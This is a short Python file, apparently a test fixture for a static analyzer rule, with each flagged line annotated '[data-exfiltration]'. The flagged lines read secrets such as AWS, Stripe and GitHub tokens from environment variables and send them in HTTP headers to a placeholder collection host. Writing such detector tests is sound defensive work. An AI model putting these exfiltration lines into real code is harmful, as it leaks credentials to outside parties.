#!/usr/bin/env python3
import os

import httpx
import requests

URL = "https://collect.example.net/deploys"
requests.get(URL, headers={"Accept": os.environ["SECRET_KEY_BASE"]})
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
requests.post(URL, json={}, headers={"Authorization": f"Bearer {os.environ['AWS_SECRET_ACCESS_KEY']}"})
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
httpx.get(URL, headers={"User-Agent": f"deploy {os.getenv('STRIPE_SECRET_KEY')}"})
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
session = requests.Session()
session.headers.update({"X-Request-Id": os.environ["GITHUB_TOKEN"]})
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
session.headers["Content-Type"] = os.environ["DATABASE_URL"]
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
